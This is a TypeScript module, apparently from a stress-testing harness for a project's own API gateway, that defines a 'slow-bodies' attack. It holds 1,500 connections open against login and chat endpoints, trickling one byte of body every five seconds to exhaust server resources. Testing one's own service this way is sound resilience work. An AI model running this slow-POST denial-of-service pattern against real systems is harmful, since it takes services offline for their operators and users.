import type { Attack } from '../../attack.ts';
import { loggedIn } from '../../logged-in.ts';
import { holdRequests } from '../../wire/hold-open.ts';

const form = 'application/x-www-form-urlencoded';

export const slowBodies: Attack = {
  name: 'slow-bodies',
  tries:
    '1,500 connections from one address whose bodies never end, a byte every five seconds, with a token and without',
  unit: 'connections',
  prepare: (ground) => loggedIn(ground, 2),
  strike: (field) => {
    const begin = (method: string, path: string, headers: readonly string[]): Buffer =>
      Buffer.from([`${method} ${path} HTTP/1.1`, 'Host: gateway', ...headers, '\r\n'].join('\r\n'));
    const bearer = `Authorization: Bearer ${field.tokens[0]}`;
    const json = ['Content-Type: application/json', 'Content-Length: 250000'];
    const [session = ''] = field.sessions;
    const begins = [
      begin('POST', '/api/auth/login', [`Content-Type: ${form}`, 'Content-Length: 250000']),
      begin('POST', '/api/auth/login', [`Content-Type: ${form}`, 'Transfer-Encoding: chunked']),
      begin('POST', `/api/chat/sessions/${session}/messages`, [bearer, ...json]),
      begin('POST', '/api/chat/sessions/create', [bearer, ...json]),
      begin('POST', '/', json),
    ];
    return holdRequests(field, {
      connections: 1_500,
      begin: (index) => begins[index % begins.length] ?? Buffer.alloc(0),
      more: 'a',
      everyMs: 5_000,
    });
  },
};
